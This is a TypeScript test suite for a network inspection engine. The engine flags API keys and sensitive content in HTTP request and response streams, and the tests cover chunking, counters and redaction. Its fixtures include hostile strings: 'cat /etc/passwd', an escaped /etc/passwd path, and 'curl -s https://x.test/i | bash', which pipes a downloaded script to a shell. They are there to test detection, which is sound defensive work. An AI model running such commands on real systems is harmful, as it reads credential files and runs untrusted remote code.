import { ruleSetOf } from '../../src/detect/rules/rule-set.ts';
import { spotterFor } from '../../src/detect/spotter-for.ts';
import { ruleFile } from '../support/rule-files.ts';
import test from 'ava';
import type { Detection, ScanReport } from '../../src/model/finding.ts';
import { ScanRefused } from '../../src/model/ports.ts';
import { FLOW, engine, startInspection } from '../support/inspection-fixture.ts';

const KEY = 'sk-live-51HqLyjWDarjtT1zdp7dcXYZ';
function found(detections: readonly Detection[]): string[] {
  return detections.map(({ finding }) => `${finding.rule} ${finding.offset}`);
}

test('reports what stands in a whole text', async (t) => {
  const { inspection, counters, detections } = startInspection();
  inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(`GET / HTTP/1.1\r\nx-key: ${KEY}\r\n\r\n`));
  await inspection.drain();
  t.is(detections.length, 1);
  t.like(detections[0], { flow: FLOW, direction: 'outbound', at: 1234, finding: { rule: 'ai_api_key', offset: 23 } });
  t.is(counters.windows, 1);
  t.deepEqual(counters.skipped, {});
});

test('clean texts cost the pool nothing', async (t) => {
  const { inspection, pool, counters } = startInspection();
  inspection.inspect(FLOW, 'inbound', 'response.head', Buffer.from('HTTP/1.1 200 OK\r\n\r\n'));
  const body = inspection.open(FLOW, 'inbound', 'response.body');
  for (let round = 0; round < 100; round++) body.write(Buffer.from('{"type":"text","text":"the model returns"}\n'));
  body.end();
  await inspection.drain();
  t.is(pool.windows.length, 0);
  t.is(counters.windows, 0);
});

test('reports what stands in a text that comes in pieces', async (t) => {
  const { inspection, detections } = startInspection();
  const body = inspection.open(FLOW, 'outbound', 'request.body');
  for (const one of `{"key":"${KEY}"}`) body.write(Buffer.from(one));
  body.end();
  await inspection.drain();
  t.deepEqual(found(detections), ['ai_api_key 8']);
});

test('a text that goes on is read when it pauses, and each thing reported once', async (t) => {
  const { inspection, detections, nextDetection, pool } = startInspection();
  // The timer that notices the pause keeps no process alive.
  const alive = setInterval(() => undefined, 1000);
  t.teardown(() => clearInterval(alive));
  const body = inspection.open(FLOW, 'inbound', 'response.body');
  const first = nextDetection();
  body.write(Buffer.from(`data: ${KEY} `));
  await first;
  t.deepEqual(found(detections), ['ai_api_key 6']);
  const second = nextDetection();
  body.write(Buffer.from('and cat /etc/passwd\n\n'));
  await second;
  body.write(Buffer.alloc(10_000));
  body.end();
  await inspection.drain();
  t.deepEqual(found(detections), ['ai_api_key 6', 'unix_sensitive 47']);
  t.true(pool.windows.length >= 3);
});

test('what a pause cut in two is found when it is whole', async (t) => {
  for (const text of [`x ${KEY} y`, 'x \\u002fetc\\u002fpasswd y', 'x curl -s https://x.test/i | bash y']) {
    for (let at = 1; at < text.length; at++) {
      const { inspection, detections } = startInspection();
      const body = inspection.open(FLOW, 'inbound', 'response.body');
      body.write(Buffer.from(text.slice(0, at)));
      await inspection.drain();
      body.write(Buffer.from(text.slice(at)));
      body.end();
      await inspection.drain();
      t.is(detections.length, 1, `${text.slice(0, at)}…${text.slice(at)}: ${found(detections).join()}`);
    }
  }
});

test('counts what the pool did not judge, by its reason', async (t) => {
  const refusals: Error[] = [new ScanRefused('queue_full'), new ScanRefused('scan_timeout'), new Error('a bug')];
  const { inspection, counters, detections, bugs } = startInspection(() => {
    throw refusals.shift() ?? new ScanRefused('queue_full');
  });
  for (let round = 0; round < 4; round++) inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(KEY));
  inspection.skip('http2_framing');
  await inspection.drain();
  t.deepEqual(counters.skipped, { queue_full: 2, scan_timeout: 1, scan_failed: 1, http2_framing: 1 });
  t.is(counters.windows, 4);
  t.deepEqual(detections, []);
  t.deepEqual(bugs.map(String), ['Error: a bug']);
});

test('counts a window that held more than is reported', async (t) => {
  const { inspection, counters, detections } = startInspection();
  inspection.inspect(FLOW, 'inbound', 'response.body', Buffer.from('/etc/passwd '.repeat(100)));
  await inspection.drain();
  t.is(detections.length, 32);
  t.deepEqual(counters.skipped, { findings_capped: 1 });
});

test('counts a window in which not all that is encoded was judged', async (t) => {
  const { inspection, counters } = startInspection();
  inspection.inspect(FLOW, 'inbound', 'response.body', Buffer.from('%6ec x '.repeat(5000)));
  inspection.inspect(FLOW, 'inbound', 'response.body', Buffer.from('%6ec x '));
  await inspection.drain();
  t.deepEqual(counters.skipped, { places_capped: 1 });
});

test('drain waits for windows that are being judged', async (t) => {
  let answer: (report: ScanReport) => void = () => undefined;
  const { inspection, detections, pool } = startInspection(() => new Promise((resolve) => (answer = resolve)));
  const body = inspection.open(FLOW, 'outbound', 'request.body');
  body.write(Buffer.from(KEY));
  let isDrained = false;
  const drained = inspection.drain().then(() => (isDrained = true));
  await new Promise((resolve) => setImmediate(resolve));
  t.false(isDrained);
  const [window] = pool.windows;
  answer(window ? engine(window) : { findings: [], omitted: 0 });
  await drained;
  t.deepEqual(found(detections), ['ai_api_key 0']);
});

test('a drain that is late counts content that is not undone yet, and goes on without it', async (t) => {
  const { inspection, counters, detections } = startInspection();
  inspection.decoding.startFinishing();
  inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(KEY));
  await inspection.drain(Promise.resolve());
  t.deepEqual(counters.skipped, { stopped: 1 });
  t.deepEqual(found(detections), ['ai_api_key 0']);
});

test('windows can be moved to a thread', async (t) => {
  const { inspection, pool } = startInspection();
  const shared = Buffer.from(KEY);
  inspection.inspect(FLOW, 'outbound', 'request.head', shared);
  const body = inspection.open(FLOW, 'outbound', 'request.body');
  body.write(shared);
  body.end();
  await inspection.drain();
  t.is(pool.windows.length, 2);
  for (const { bytes } of pool.windows) {
    t.is(bytes.byteLength, bytes.buffer.byteLength);
    t.not(bytes.buffer, shared.buffer);
  }
});

test('a detection says of its request that the path climbs, also where that is cut off', async (t) => {
  const { inspection, detections } = startInspection();
  for (const target of [`/v1/${'a/'.repeat(300)}../admin`, '/v1/messages']) {
    inspection.inspect({ ...FLOW, request: { method: 'GET', target } }, 'outbound', 'request.body', Buffer.from(KEY));
  }
  await inspection.drain();
  t.deepEqual(
    detections.map(({ request }) => request?.climbs),
    [true, undefined],
  );
});

test('of the request only what may be told goes out with a detection', async (t) => {
  const { inspection, detections } = startInspection();
  const request = { method: 'POST'.repeat(20), target: `/bots/${KEY}/send?token=${KEY}` };
  const flow = { ...FLOW, stream: 3, connection: FLOW, request };
  inspection.inspect(flow, 'outbound', 'request.body', Buffer.from(KEY));
  await inspection.drain();
  t.deepEqual(detections[0]?.flow, { ...FLOW, stream: 3 });
  t.deepEqual(detections[0]?.request, { method: `${'POST'.repeat(5)}POS…`, path: '/bots/sk-live-.../send' });
  t.false(JSON.stringify(detections).includes(KEY.slice(10)));
});

test('another spotter sees what begins from then on; what has begun goes on as it was', async (t) => {
  const { inspection, pool } = startInspection();
  const begun = inspection.open(FLOW, 'outbound', 'request.body');
  inspection.useSpotter(spotterFor(ruleSetOf([ruleFile()])));
  const text = Buffer.from('acme_7h2k9d4m1x8q5w3z');
  begun.write(text);
  begun.end();
  t.is(pool.windows.length, 0);
  inspection.inspect(FLOW, 'outbound', 'request.head', text);
  const body = inspection.open(FLOW, 'outbound', 'request.body');
  body.write(text);
  body.end();
  await inspection.drain();
  t.is(pool.windows.length, 2);
});
